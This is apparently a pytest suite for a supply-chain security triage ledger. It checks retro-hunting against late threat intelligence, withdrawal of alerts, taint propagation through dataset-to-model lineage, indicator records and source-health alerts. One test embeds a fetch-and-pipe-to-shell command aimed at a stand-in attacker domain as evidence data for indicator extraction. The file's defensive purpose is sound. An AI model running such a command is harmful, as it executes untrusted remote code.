"""The component ledger: cost, retro-hunt, withdrawal, propagation, bounds, expiry, blindness."""

from __future__ import annotations

import random

import msgspec
import pytest

from agents.ports import Delivery, Record
from agents.triage.ledger.core import process
from agents.triage.ledger.source_health import usual_interval_ms
from agents.triage.routing import (
    finding_messages,
    incident_id,
    incident_root,
    source_message,
    split_version,
)
from schemas.channels import Channel
from schemas.events import Event
from schemas.findings import Indicator, SupplyChainIoC
from schemas.intel import IntelFact, IntelKind
from schemas.ledger import SourceSeen, Tick
from schemas.policy import Policy, default_policy
from schemas.severity import Disposition, Severity
from streams.engine.outbox import MAX_OUTBOX
from tests.agents.published import Publishing
from tests.agents.triage.flow import START, Flow, at
from tests.agents.triage.memory_rows import MemoryRows
from tests.agents.triage.stories import BAD, GOOD, MODEL, finding, held, sighting

LITELLM = IntelFact(
    key="pypi:litellm",
    kind=IntelKind.COMPROMISED,
    versions=("1.82.7",),
    sources=("OSV:MAL-2026-2144", "vendor"),
    confidence=0.95,
    popular=True,
)


def take(rows, *values):
    out = []
    deliveries = [
        Delivery(
            record=Record(
                topic="t",
                partition=0,
                offset=number,
                timestamp_ms=int(START.timestamp() * 1000),
                key=b"k",
                value=b"",
            ),
            value=value,
        )
        for number, value in enumerate(values)
    ]
    process(deliveries, Publishing(out.append), rows)
    return out


# -- cost ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("component", "severity"),
    [("model:hub/acme/m", Severity.HIGH), ("model:@a/registry.acme/m", Severity.MEDIUM)],
)
def test_a_colleague_who_pushes_to_the_own_registry_is_no_stranger(component, severity):
    flow = Flow()
    for number, who in enumerate(("u-1", "u-2")):
        flow.saw(
            sighting(
                component, "a", "registry", number, version=who, publisher_id=who, kind="pushed"
            )
        )
    (ioc,) = [one for one in flow.iocs.values() if one.ioc_type == "publisher_change"]
    assert ioc.severity is severity


def test_a_known_clean_sighting_costs_one_read_and_no_write():
    rows = MemoryRows()
    take(rows, sighting("pypi:numpy", "a", "host", version="2.0", digest=GOOD, filename="n.whl"))
    rows.reads = rows.writes = 0
    later = sighting("pypi:numpy", "a", "host", 60, version="2.0", digest=GOOD, filename="n.whl")
    assert take(rows, later) == []
    assert rows.reads == 1
    assert rows.writes == 0


def test_a_popular_package_writes_its_component_row_once_a_tenant():
    rows = MemoryRows()
    take(rows, *(sighting("pypi:numpy", "a", f"h{n}", version="2.0") for n in range(50)))
    written = rows.writes
    take(rows, *(sighting("pypi:numpy", "a", f"g{n}", 1, version="2.0") for n in range(50)))
    assert rows.writes - written == 100  # each new system, and when it expires
    flow = Flow()
    flow.saw(*(sighting("pypi:numpy", f"t{n}", "h", version="2.0") for n in range(40)))
    assert not flow.alerts
    assert not flow.iocs


def test_a_batch_writes_each_row_once():
    rows = MemoryRows()
    take(rows, *(sighting("pypi:a", "t", "h", n, version=str(n)) for n in range(20)))
    assert rows.writes <= 4


# -- a registry has more versions than a row ------------------------------------------------------


def pushed(number, **more):
    digest = more.pop("digest", f"{number:064x}")
    version = more.pop("version", f"r{number}")
    return sighting(
        MODEL, "a", "hub", number, version=version, digest=digest, kind="pushed", **more
    )


def test_a_bad_version_is_found_on_a_system_with_more_versions_than_are_kept():
    for bad in range(40, 60):
        flow = Flow()
        fact = IntelFact(key=MODEL, kind=IntelKind.MALICIOUS, versions=(f"r{bad}",), sources=("x",))
        flow.fact(fact)
        flow.saw(*(pushed(number) for number in range(60)))
        (alert,) = flow.alerts.values()
        assert alert.root == f"{MODEL}@r{bad}"


def test_a_late_change_of_publisher_is_reported():
    for number in range(40, 60):
        flow = Flow()
        flow.saw(*(pushed(n, publisher_id="org-1") for n in range(number)))
        flow.saw(pushed(number, publisher_id="org-2"))
        assert "publisher_change" in {ioc.ioc_type for ioc in flow.iocs.values()}


def test_a_change_is_reported_for_a_repository_with_hundreds_of_versions():
    flow = Flow()
    flow.saw(*(pushed(number, publisher_id="org-1") for number in range(300)))
    flow.saw(pushed(300, publisher_id="org-2"))
    flow.saw(pushed(301, version="r299", publisher_id="org-2"))
    kinds = {ioc.ioc_type for ioc in flow.iocs.values()}
    assert {"publisher_change", "tag_mutation"} <= kinds


def test_a_release_tag_moved_to_an_earlier_version_is_reported():
    flow = Flow()
    flow.saw(pushed(0, tag="main"), pushed(0, tag="v1.0", event_id="tagged"))
    flow.saw(pushed(10, tag="main"))
    assert not flow.alerts
    flow.saw(sighting(MODEL, "a", "hub", 20, version="r10", digest=f"{10:064x}", kind="pushed",
                      tag="v1.0"))  # fmt: skip
    assert {ioc.ioc_type for ioc in flow.iocs.values()} == {"tag_mutation"}


@pytest.mark.parametrize(
    ("tag", "severities"),
    [("v45.0.5", {"high"}), ("1.2.3", {"high"}), ("v35", {"low"}), ("main", set())],
)
def test_a_moved_git_release_tag_is_reported_and_a_series_tag_at_low_severity(tag, severities):
    flow = Flow()
    step = "service:git.example/acme/step"
    for number, commit in enumerate(("a" * 40, "a" * 40, "b" * 40)):
        flow.saw(sighting(step, "a", "runner", number, version=tag, kind="used"))
        flow.saw(sighting(step, "a", "runner", number, version=commit, tag=tag, kind="used"))
    assert {ioc.severity.value for ioc in flow.iocs.values()} == severities
    assert bool(flow.alerts) is ("high" in severities)


def test_a_late_sighting_counts_at_its_event_time():
    told = []
    early = pushed(1, publisher_id="org-2", version="r9", digest=BAD, event_id="early")
    inputs = [
        pushed(5, publisher_id="org-1"),
        pushed(9, publisher_id="org-2", version="r9", digest=BAD, event_id="late"),
        early,
    ]
    for order in (inputs, [early, *inputs[:2]]):
        flow = Flow()
        flow.saw(*order)
        (ioc,) = flow.iocs.values()
        told.append((ioc.description, ioc.event_id, ioc.occurred_at))
    assert told[0] == told[1]


# -- intelligence ----------------------------------------------------------------------------------


def installs(flow):
    flow.saw(
        *held("pypi:litellm", "a", "ci", 1, version="1.82.7", digest=BAD, kind="installed"),
        *held("pypi:litellm", "b", "ci", 2, version="1.82.6", digest=GOOD, kind="installed"),
    )


def test_later_intelligence_finds_the_earlier_sighting():
    flow = Flow()
    installs(flow)
    assert not flow.alerts
    flow.clock_ms += 3_600_000
    flow.fact(LITELLM)
    (alert,) = flow.alerts.values()
    assert alert.tenant == "a"
    assert alert.root == "pypi:litellm@1.82.7"
    assert alert.first_seen == at(1)
    assert alert.score.value >= 60
    assert alert.processing.retro


def test_the_finding_is_the_same_whichever_came_first():
    before, after = Flow(), Flow()
    installs(before)
    before.fact(LITELLM)
    after.fact(LITELLM)
    installs(after)
    (first,), (second,) = before.alerts.values(), after.alerts.values()
    assert [one.id for one in first.findings] == [one.id for one in second.findings]
    assert {*before.commands, *before.proposals} == {*after.commands, *after.proposals}


def test_a_withdrawal_closes_the_alert_and_lifts_containment():
    flow = Flow()
    flow.policy(automatic("a"))
    installs(flow)
    flow.fact(LITELLM)
    for spec in list(flow.issued):
        flow.answer(spec)
    issued = {spec.action for spec in flow.issued}
    assert {"capture-evidence", "quarantine", "block"} <= issued
    flow.withdraw("pypi:litellm")
    (alert,) = flow.alerts.values()
    assert [one.activity for one in flow.history[alert.id]].count("close") == 1
    assert alert.status == "withdrawn"
    undone = {spec.action: spec for spec in flow.commands.values() if spec.undoes}
    assert {"restore", "unblock"} <= set(undone)
    assert {ioc.status for ioc in flow.iocs.values()} == {"withdrawn"}


def test_a_fact_published_again_reopens_under_new_commands():
    flow = Flow()
    flow.policy(automatic("a"))
    installs(flow)
    flow.fact(LITELLM)
    first = {spec.command_id for spec in flow.issued if spec.undoes is None}
    flow.withdraw("pypi:litellm")
    flow.fact(LITELLM)
    (alert,) = flow.alerts.values()
    assert alert.status == "new"
    again = {spec.command_id for spec in flow.issued if spec.undoes is None} - first
    assert len(again) == len(first)
    assert {ioc.status for ioc in flow.iocs.values()} == {"active"}


def test_a_withdrawal_keeps_findings_on_other_grounds():
    flow = Flow()
    flow.saw(*held(MODEL, "a", "gpu", version="r2", digest=BAD, kind="used"))
    flow.found(finding("malicious_payload", "a"))
    flow.fact(IntelFact(key=f"sha256:{BAD}", kind=IntelKind.MALICIOUS, sources=("x",)))
    flow.withdraw(f"sha256:{BAD}")
    (alert,) = flow.alerts.values()
    assert alert.status == "new"
    assert sum(one.active for one in alert.findings) == 1


def test_a_digest_of_a_fact_is_found_under_another_name():
    flow = Flow()
    flow.saw(*held("pypi:innocent", "a", "ci", version="3", digest=BAD, kind="installed"))
    flow.fact(IntelFact(key="pypi:evil", kind=IntelKind.MALICIOUS, digests=(BAD,), sources=("x",)))
    (alert,) = flow.alerts.values()
    assert alert.root == f"sha256:{BAD}"
    assert alert.findings[0].component == "pypi:innocent"


def test_a_warninglist_withdraws_findings_and_its_end_restores_them():
    flow = Flow()
    domain = "domain:cdn.example"
    flow.found(finding("blocked_source_used", "a", component=domain, digest=None, version=None))
    assert len(flow.alerts) == 1
    flow.fact(IntelFact(key=domain, kind=IntelKind.WARNINGLIST, sources=("list",)))
    assert flow.alerts_of("a")[0].status == "withdrawn"
    assert {ioc.status for ioc in flow.iocs.values()} == {"withdrawn"}
    flow.withdraw(domain)
    assert flow.alerts_of("a")[0].status == "new"


def test_a_popular_package_on_one_source_is_not_contained():
    fact = IntelFact(
        key="pypi:requests",
        kind=IntelKind.COMPROMISED,
        versions=("2.0",),
        sources=("feed",),
        popular=True,
    )
    flow = Flow()
    flow.policy(automatic("a"))
    flow.saw(*held("pypi:requests", "a", "ci", version="2.0", digest=GOOD, kind="installed"))
    flow.fact(fact)
    (alert,) = flow.alerts.values()
    assert {spec.action for spec in flow.commands.values()} == {"capture-evidence"}
    assert not flow.proposals
    states = {one.spec.action: one.state for one in alert.commands}
    assert states["quarantine"] == states["block"] == "advised"
    (ioc,) = flow.iocs.values()
    assert ioc.indicator.disposition is not Disposition.BLOCK


def test_a_search_continues_page_by_page(monkeypatch):
    monkeypatch.setattr("agents.triage.ledger.intelligence.PAGE", 50)
    monkeypatch.setattr("agents.triage.ledger.exposures.PAGE", 50)
    flow = Flow()
    flow.saw(
        *(
            sighting("pypi:litellm", f"t{n % 7}", f"h{n:05}", 1, version="1.82.7")
            for n in range(230)
        )
    )
    flow.fact(LITELLM)
    (incident,) = flow.incidents.values()
    assert incident.tenant_count == 7
    assert incident.system_count >= 128
    found = {
        one.key
        for one in flow.sent
        if one.channel is Channel.OBSERVATIONS and b'"after"' in one.value
    }
    assert found == {"pypi:litellm"}
    flow.withdraw("pypi:litellm")
    assert {view.status for view in flow.alerts.values()} == {"withdrawn"}


# -- propagation -----------------------------------------------------------------------------------


DATA = "dataset:vendor/reviews"
AUTOMATIC = ("capture-evidence", "quarantine", "rollback", "block", "revoke", "hold-pipeline")


def lineage():
    """Return a dataset of `a`, what `a` made of it, and what `b` made of that and serves."""
    base, tuned = "1" * 64, "2" * 64
    return (
        sighting(DATA, "a", "lake", 0, version="v7", digest=BAD, kind="used"),
        *held(
            "model:hub/base",
            "a",
            "trainer",
            10,
            version="1",
            digest=base,
            kind="made",
            made_from=(f"{DATA}@v7",),
            appended=(10, "runs", 0, 1),
        ),
        *held(
            "model:hub/tuned",
            "b",
            "trainer",
            20,
            version="2",
            digest=tuned,
            kind="made",
            made_from=("model:hub/base@1", f"sha256:{base}"),
            appended=(20, "runs", 0, 2),
        ),
        sighting(
            "deployment:chat",
            "b",
            "cluster",
            30,
            kind="served",
            exposure="serving",
            criticality=1.0,
            made_from=("model:hub/tuned@2", f"sha256:{tuned}"),
        ),
        sighting("model:hub/base", "c", "gpu", 15, version="0", kind="used"),
    )


POISON = IntelFact(
    key=DATA, kind=IntelKind.COMPROMISED, versions=("v7",), sources=("vendor", "cert")
)


def test_a_poisoned_dataset_reaches_two_models_and_a_deployment():
    flow = Flow()
    flow.saw(*lineage())
    flow.fact(POISON)
    (incident,) = flow.incidents.values()
    reached = {(one.tenant, one.component): one.path for one in incident.systems}
    assert reached == {
        ("a", DATA): (),
        ("a", "model:hub/base"): (DATA,),
        ("b", "model:hub/tuned"): (DATA, "elsewhere"),
        ("b", "deployment:chat"): (DATA, "elsewhere", "model:hub/tuned"),
    }
    assert flow.alerts_of("c") == []
    (mine,) = flow.alerts_of("a")
    assert mine.score.band in {Severity.HIGH, Severity.CRITICAL}
    assert {task.kind for task in mine.tasks} >= {"retrain"}


def test_a_published_lineage_advises_the_tenants_further_down():
    flow = Flow()
    for tenant in "abc":
        policy = default_policy(tenant)
        flow.policy(msgspec.structs.replace(policy, automatic=AUTOMATIC, dry_run=False))
    flow.saw(*lineage())
    flow.fact(POISON)
    (ours,) = flow.alerts_of("b")
    assert ours.score.band is Severity.MEDIUM
    assert [(one.advice, one.severity) for one in ours.findings] == [(True, Severity.MEDIUM)]
    assert "other organisations" in ours.findings[0].known_by
    assert ours.root == DATA
    assert ours.tasks == ()
    assert [(one.spec.action, one.state) for one in ours.commands] == [("investigate", "proposed")]
    assert not [one for one in flow.issued if one.tenant == "b"]


def test_what_was_made_from_another_version_is_not_reached():
    flow = Flow()
    flow.saw(
        sighting(DATA, "a", "lake", 0, version="v7", digest=BAD),
        sighting("model:x", "b", "gpu", 1, version="1", made_from=(f"{DATA}@v6",)),
    )
    flow.fact(POISON)
    assert {view.tenant for view in flow.alerts.values()} == {"a"}


def test_repeated_builds_are_still_traced():
    flow = Flow()
    builds = [
        sighting(
            "model:acme/nightly",
            "a",
            "trainer",
            day * 24 * 60,
            version=f"n{day}",
            digest=f"{day:064x}",
            kind="made",
            made_from=tuple(f"dataset:acme/d{number}@v{day}" for number in range(10)),
        )
        for day in range(60)
    ]
    flow.saw(*builds)
    for number in range(10):
        key = f"dataset:acme/d{number}"
        flow.saw(sighting(key, "a", "lake", 59 * 24 * 60, version="v59", kind="used"))
        flow.fact(
            IntelFact(key=key, kind=IntelKind.COMPROMISED, versions=("v59",), sources=("vendor",))
        )
    reached = [
        view.root
        for view in flow.alerts_of("a")
        if "model:acme/nightly" in {system.component for system in view.systems}
    ]
    assert len(reached) == 10


@pytest.mark.parametrize(
    "seed", [0, *(pytest.param(one, marks=pytest.mark.slow) for one in (1, 2, 3))]
)
def test_of_many_versions_the_latest_are_kept_whatever_arrives_first(seed):
    builds = [pushed(number) for number in range(60)]
    random.Random(seed).shuffle(builds)
    flow = Flow()
    flow.saw(*builds)
    latest = IntelFact(
        key=MODEL,
        kind=IntelKind.MALICIOUS,
        versions=tuple(f"r{number}" for number in range(60)),
        sources=("vendor",),
    )
    flow.fact(latest)
    found = {one.version for view in flow.alerts_of("a") for one in view.findings}
    assert found == {f"r{number}" for number in range(28, 60)}


@pytest.mark.slow
def test_no_chunk_publishes_more_than_a_worker_may():
    rows = MemoryRows()
    chunk = [
        sighting(
            f"model:acme/m{number}",
            "a",
            "gpu",
            made_from=tuple(f"dataset:acme/{number}-{one}@1" for one in range(600)),
        )
        for number in range(500)
    ]
    assert len(take(rows, *chunk)) < MAX_OUTBOX * 0.75


def test_a_withdrawal_follows_the_taint():
    flow = Flow()
    flow.saw(*lineage())
    flow.fact(POISON)
    flow.withdraw(DATA)
    assert {view.status for view in flow.alerts.values()} == {"withdrawn"}


def test_a_copy_that_was_tampered_with_says_nothing_of_others_copies():
    flow = Flow()
    flow.saw(
        *held(MODEL, "a", "gpu", version="r2", digest=BAD),
        *held(MODEL, "b", "gpu", version="r2", digest=GOOD),
        *held(MODEL, "c", "gpu", version="r2", digest=BAD),
    )
    flow.found(finding("hash_mismatch", "a"))
    # That the digest is wrong is what a's own lock says: c, which has the same file, need not care.
    assert {view.tenant for view in flow.alerts.values()} == {"a"}


def test_an_input_whose_digest_is_known_to_differ_does_not_taint():
    flow = Flow()
    flow.saw(
        *held(DATA, "a", "lake", 0, version="v7", digest=BAD),
        sighting("model:x", "b", "gpu", 1, version="1", made_from=(f"{DATA}@sha256:{GOOD}",)),
        sighting("model:y", "c", "gpu", 1, version="1", made_from=(f"{DATA}@sha256:{BAD}",)),
    )
    flow.fact(msgspec.structs.replace(POISON, versions=(), digests=(BAD,)))
    assert {view.tenant for view in flow.alerts.values()} == {"a", "c"}


def test_which_digest_a_listed_version_has_one_tenant_says_for_itself_alone():
    flow = Flow()
    flow.saw(
        *held(DATA, "a", "lake", 0, version="v7", digest=BAD),
        *held(DATA, "b", "lake", 0, version="v6", digest=BAD),
        sighting("model:y", "c", "gpu", 1, version="1", made_from=(f"{DATA}@sha256:{BAD}",)),
    )
    flow.fact(POISON)
    assert {view.tenant for view in flow.alerts.values()} == {"a"}


def test_cycles_and_long_chains_end():
    flow = Flow()
    chain = [
        sighting(f"model:m{n}", "a", "gpu", n, version="1", made_from=(f"model:m{n - 1}@1",))
        for n in range(1, 30)
    ]
    flow.saw(sighting("model:m0", "a", "gpu", 0, version="1", made_from=("model:m29@1",)), *chain)
    flow.found(finding("malicious_payload", "a", component="model:m0", version="1", digest=None))
    (alert,) = flow.alerts.values()
    assert max(len(system.path) for system in alert.systems) == 8
    assert any(one.kind == "bound-reached" for one in flow.operator.values())


# -- indicators ------------------------------------------------------------------------------------


def test_one_indicator_record_per_value_tenant_and_kind():
    flow = Flow()
    for minute in range(5):
        flow.found(finding("malicious_payload", "a", minutes=minute, locator=str(minute)))
    assert len(flow.iocs) == 1
    flow.found(finding("malicious_payload", "b"))
    flow.found(finding("extension_mismatch", "a"))
    assert len(flow.iocs) == 3


def test_each_content_of_an_indicator_has_an_id_and_a_revision_of_its_own():
    flow = Flow()
    for day in range(3):
        flow.found(finding("malicious_payload", "a", minutes=day * 24 * 60))
    flow.fact(IntelFact(key=f"sha256:{BAD}", kind=IntelKind.WARNINGLIST, sources=("list",)))
    flow.withdraw(f"sha256:{BAD}")
    sent = [one for one in flow.sent if one.channel is Channel.IOCS and one.tenant == "a"]
    records = [msgspec.json.decode(one.value, type=SupplyChainIoC) for one in sent]
    assert [one.status for one in records[-2:]] == ["withdrawn", "active"]
    contents = {one.value for one in sent}
    assert len(contents) == len(sent) == 5
    assert len({dict(one.headers)["ce_id"] for one in sent}) == len(contents)
    assert [one.revision for one in records] == list(range(1, len(records) + 1))
    assert [one.modified for one in records] == sorted(one.modified for one in records)
    assert {one.category for one in records} == {"compromise"}
    headers = [dict(one.headers) for one in sent]
    assert [int(one["ce_revision"]) for one in headers] == [one.revision for one in records]
    assert [one["ce_status"].decode() for one in headers] == [one.status for one in records]
    for one, record in zip(headers, records, strict=True):
        assert one["ce_severity"].decode() == record.severity
        assert one["ce_disposition"].decode() == record.indicator.disposition
        assert one["ce_ioctype"].decode() == record.ioc_type


def test_an_indicator_of_hygiene_says_so_in_its_record_and_a_header():
    flow = Flow()
    flow.found(finding("unpinned_dependency", "a"))
    (sent,) = [one for one in flow.sent if one.channel is Channel.IOCS]
    assert msgspec.json.decode(sent.value, type=SupplyChainIoC).category == "hygiene"
    assert dict(sent.headers)["ce_category"] == b"hygiene"


def test_what_a_hostile_payload_speaks_to_becomes_indicators_that_live_with_it():
    flow = Flow()
    payload = finding("malicious_payload", "a")
    text = "('curl https://cdn.evil.example/x | sh; wget https://github.com/evil/y',)"
    flow.found(msgspec.structs.replace(payload, evidence={**payload.evidence, "arguments": text}))
    network = [one for one in flow.iocs.values() if one.indicator.type in {"url", "domain"}]
    dispositions = {one.indicator.value: one.indicator.disposition for one in network}
    assert dispositions == {
        "https://cdn.evil.example/x": "detect",
        "cdn.evil.example": "detect",
        "https://github.com/evil/y": "detect",
        "github.com": "context",
    }
    assert not any("http" in one.description for one in network)
    assert {one.evidence["found_in"] for one in network} == {payload.indicator.key}
    assert {one.tenant for one in network} == {"a"}
    flow.fact(IntelFact(key=f"sha256:{BAD}", kind=IntelKind.WARNINGLIST, sources=("list",)))
    network = [one for one in flow.iocs.values() if one.indicator.type in {"url", "domain"}]
    assert {one.status for one in network} == {"withdrawn"}


def test_what_is_not_hostile_names_no_network_indicators():
    flow = Flow()
    weak = finding("suspicious_code", "a")
    text = "requests.get('https://data.acme.example/x')"
    flow.found(msgspec.structs.replace(weak, severity=Severity.MEDIUM, evidence={"code": text}))
    assert {one.indicator.type for one in flow.iocs.values()} == {weak.indicator.type}


def test_prevalence_is_published_from_three_other_tenants_on():
    flow = Flow()
    for number, tenant in enumerate("abcd"):
        flow.found(finding("malicious_payload", tenant, minutes=number))
    told = {ioc.tenant: ioc.prevalence for ioc in flow.iocs.values()}
    assert told == {"a": None, "b": None, "c": None, "d": 3}
    assert {view.other_tenants for view in flow.alerts.values()} == {3}


def test_a_greater_k_counts_later():
    flow = Flow(k=5)
    for number in range(11):
        flow.found(finding("malicious_payload", f"t{number}", minutes=number))
        told = {view.other_tenants for view in flow.alerts.values()}
        assert told == ({10} if number == 10 else {None})
    assert {ioc.prevalence for ioc in flow.iocs.values()} <= {None, 10}


def test_several_hostile_components_of_a_publisher_are_a_campaign():
    flow = Flow()
    for number in range(3):
        flow.found(
            finding(
                "malicious_payload",
                "a",
                component=f"model:hub/x/m{number}",
                digest=str(number) * 64,
                publisher="publisher:hub/x",
            )
        )
    kinds = {ioc.ioc_type for ioc in flow.iocs.values()}
    assert "campaign" in kinds
    linked = [one for one in flow.incidents.values() if one.related]
    assert len(linked) == 4
    assert len({one.campaign for one in linked}) == 1


@pytest.mark.slow
def test_a_hygiene_finding_everywhere_is_over_correlating_and_says_so():
    flow = Flow()
    for number in range(203):
        flow.found(
            finding(
                "direct_reference",
                f"t{number}",
                component="pypi:requests",
                digest=None,
                version=None,
                confidence=0.6,
            )
        )
    assert any(one.kind == "over-correlating" for one in flow.operator.values())


@pytest.mark.parametrize(
    ("severity", "whole", "wanted"),
    [
        (Severity.CRITICAL, False, Disposition.BLOCK),
        (Severity.LOW, False, Disposition.CONTEXT),
        (Severity.CRITICAL, True, Disposition.DETECT),
    ],
)
def test_a_benign_name_is_never_an_indicator_to_block(severity, whole, wanted):
    flow = Flow()
    more = {}
    if whole:
        more["indicator"] = Indicator(
            key="pypi:requests",
            type="package",
            value="requests",
            disposition=Disposition.BLOCK,
        )
    flow.found(
        finding("known_compromised_package", "a", "pypi:requests", severity=severity, **more)
    )
    (ioc,) = flow.iocs.values()
    assert ioc.indicator.disposition is wanted


# -- roots -----------------------------------------------------------------------------------------


def test_the_root_follows_the_precedence_of_indicators():
    assert incident_root(finding("malicious_payload", "a")) == f"sha256:{BAD}"
    assert incident_root(finding("tag_mutation", "a", digest=None)) == f"{MODEL}@r2"
    assert incident_root(finding("poisoned_dataset", "a", "dataset:x", digest=None)) == "dataset:x"


def test_names_of_one_tenant_never_meet_anothers():
    mine = finding("config_tampering", "a", "pipeline:train", digest=None, version=None)
    theirs = finding("config_tampering", "b", "pipeline:train", digest=None, version=None)
    assert incident_id(incident_root(mine)) != incident_id(incident_root(theirs))


def test_versions_are_split_from_keys():
    assert split_version("pypi:a@1.0") == ("pypi:a", "1.0")
    assert split_version("pypi:@tenant/a@1.0") == ("pypi:@tenant/a", "1.0")
    assert split_version("model:hub/m") == ("model:hub/m", None)


def test_findings_below_medium_open_no_incident():
    low = finding("unpinned_dependency", "a", digest=None, severity=Severity.LOW)
    assert {one.channel for one in finding_messages(low)} == {Channel.OBSERVATIONS}


# -- bounds and time -------------------------------------------------------------------------------


def test_rows_stay_within_their_bound_whatever_is_sent():
    rows = MemoryRows()
    long = "é" * 2000
    for number in range(150):
        take(
            rows,
            sighting(
                "model:big",
                "a",
                "host",
                number,
                version=f"{number}{long}",
                digest=f"{number:064d}",
                tag="v1.0.0",
                kind="pushed",
                signed=True,
                publisher=f"publisher:hub/{number}{long}",
                publisher_id=f"{number}{long}",
                identities=tuple(f"{one}{long}" for one in range(50)),
                made_from=tuple(f"model:in{one}@{number}" for one in range(100)),
            ),
        )
    assert rows.largest <= 64 * 1024


def test_incident_rows_stay_within_their_bound():
    flow = Flow()
    big = {f"field-{n}": "x" * 500 for n in range(50)}
    for number in range(60):
        flow.found(
            finding(
                "malicious_payload",
                "a",
                minutes=number,
                rule_id=f"TW-TEST-{number}",
                evidence=big,
                systems=tuple(f"host-{number}-{one}" for one in range(60)),
                identities=tuple(f"secret-ref:{number}-{one}" for one in range(60)),
            )
        )
    assert max(rows.largest for rows in flow.incident_rows) <= 64 * 1024
    (alert,) = flow.alerts.values()
    assert alert.system_count >= 512
    assert "systems" in alert.truncated


def test_a_sighting_is_forgotten_400_days_after_the_last():
    rows = MemoryRows()
    take(rows, sighting("pypi:old", "a", "host", version="1"))
    day = 86_400_000
    start = int(START.timestamp() * 1000)
    take(rows, Tick(time_ms=start + 399 * day))
    assert any(key.startswith("s\x1f") for key in rows.content())
    take(rows, Tick(time_ms=start + 401 * day))
    assert not [key for key in rows.content() if not key.startswith("z")]


def test_a_sighting_seen_again_is_kept():
    rows = MemoryRows()
    day = 86_400_000
    start = int(START.timestamp() * 1000)
    take(rows, sighting("pypi:old", "a", "host", version="1"))
    take(rows, sighting("pypi:old", "a", "host", 200 * 24 * 60, version="1"))
    take(rows, Tick(time_ms=start + 401 * day))
    assert any(key.startswith("s\x1f") for key in rows.content())
    take(rows, Tick(time_ms=start + 601 * day))
    assert not any(key.startswith("s\x1f") for key in rows.content())


def test_a_sighting_of_an_open_incident_is_kept():
    flow = Flow()
    flow.saw(*held(MODEL, "a", "gpu", version="r2", digest=BAD))
    flow.found(finding("malicious_payload", "a"))
    flow.tick(minutes=401 * 24 * 60)
    held_rows = [key for rows in flow.ledger_rows for key in rows.content() if key[0] == "s"]
    assert held_rows


# -- blindness -------------------------------------------------------------------------------------


def pulse(hour, outcome="ok", event=None):
    event_id = event or f"e{hour}"
    return SourceSeen(
        key="source:a|//ci",
        tenant="a",
        source="//ci",
        event_id=event_id,
        at_ms=int(START.timestamp() * 1000) + hour * 3_600_000,
        outcome=outcome,
    )


def kinds(messages):
    return [
        msgspec.json.decode(one.value)["kind"]
        for one in messages
        if one.channel is Channel.OPERATOR_ALERTS
    ]


def test_a_silent_source_is_reported_once_and_again_when_it_returns():
    rows = MemoryRows()
    start = int(START.timestamp() * 1000)
    take(rows, *(pulse(hour) for hour in range(12)))
    assert kinds(take(rows, Tick(time_ms=start + 13 * 3_600_000))) == []
    assert kinds(take(rows, Tick(time_ms=start + 20 * 3_600_000))) == ["source-silent"]
    assert kinds(take(rows, Tick(time_ms=start + 30 * 3_600_000))) == []
    assert kinds(take(rows, pulse(31))) == ["source-recovered"]


def test_a_rising_share_of_incomplete_analyses_is_reported():
    rows = MemoryRows()
    start = int(START.timestamp() * 1000)
    take(rows, *(pulse(1, event=f"ok{n}") for n in range(10)))
    take(rows, *(pulse(1, "incomplete", event=f"bad{n}") for n in range(10)))
    assert kinds(take(rows, Tick(time_ms=start + 2 * 3_600_000))) == ["incomplete-share"]


def test_dead_letters_of_one_producer_are_reported():
    rows = MemoryRows()
    start = int(START.timestamp() * 1000)
    take(rows, *(pulse(1, "dead-letter", event=f"x{n}") for n in range(25)))
    assert "dead-letters" in kinds(take(rows, Tick(time_ms=start + 2 * 3_600_000)))


def test_an_irregular_source_has_no_usual_interval():
    assert usual_interval_ms([1, 2, 3]) is None
    assert usual_interval_ms([1, 2, 3, 4, 5, 6, 7]) == 3_600_000


def test_the_message_of_a_source_names_it():
    event = Event(
        id="e",
        source="//ci",
        type="t",
        subject="s",
        time=at(0),
        tenantid="a",
        data=None,
        received_ms=5,
    )
    message = source_message(event, "incomplete")
    assert message.key == "source:a|//ci"
    assert message.channel is Channel.OBSERVATIONS


def automatic(tenant):
    return Policy(
        tenant=tenant,
        automatic=("capture-evidence", "quarantine", "block", "rollback", "revoke"),
    )
